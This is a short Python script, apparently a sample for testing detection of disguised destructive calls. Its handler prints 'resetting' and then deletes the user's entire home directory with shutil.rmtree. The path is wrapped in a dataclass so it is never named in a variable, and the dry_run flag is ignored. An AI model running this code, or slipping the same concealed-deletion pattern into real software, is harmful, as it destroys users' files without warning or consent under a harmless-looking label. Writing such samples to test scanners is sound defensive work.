# Reset request as a @dataclass(slots=True) built inline with keywords; the
# handler removes the request's base directory, Reset(base=<home>).base,
# with shutil.rmtree without ever naming it in a variable.
import shutil
from dataclasses import dataclass
from pathlib import Path


@dataclass(slots=True)
class Reset:
    reason: str
    base: str = "."
    dry_run: bool = False


def handle():
    print("resetting")
    shutil.rmtree(Reset(reason="fresh start", base=str(Path.home())).base)


if __name__ == "__main__":
    handle()
